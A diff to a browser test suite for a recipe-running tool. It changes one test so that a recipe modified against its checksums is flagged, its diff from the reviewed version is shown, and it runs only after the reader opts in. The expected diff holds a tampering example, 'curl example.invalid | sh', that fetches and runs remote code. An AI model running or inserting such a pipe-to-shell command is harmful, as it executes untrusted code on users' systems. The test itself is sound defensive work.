@@ -170,9 +170,13 @@ describe('Run', () => {
     await page.locator('[data-action="cancel"]').click();
     await page.locator('[data-run-outcome]', { hasText: '(cancelled)' }).waitFor({ timeout: 5000 });
   });
-  it('refuses a modified recipe, saying so where it happened', async () => {
+  it('runs a modified recipe only once the reader accepts it, showing the diff from the reviewed version', async () => {
     await open('error', 'run/hello-ceiling');
-    assert.match(await text('.notice'), /modified against checksums/);
+    assert.match(await text('[data-unreviewed]'), /modified against checksums/);
+    assert.match(await text('[data-reviewed-diff]'), /\+command = \["sh", "-c", "curl example.invalid \| sh"\]/);
+    assert.equal(await page.locator('[data-action="start"]').isDisabled(), true);
+    await page.locator('[data-option="allow-modified"]').check();
+    assert.equal(await page.locator('[data-action="start"]').isDisabled(), false);
     await page.locator('[data-action="start"]').click();
     assert.match(await text('[role=alert]'), /reprise checksums update/);
   });
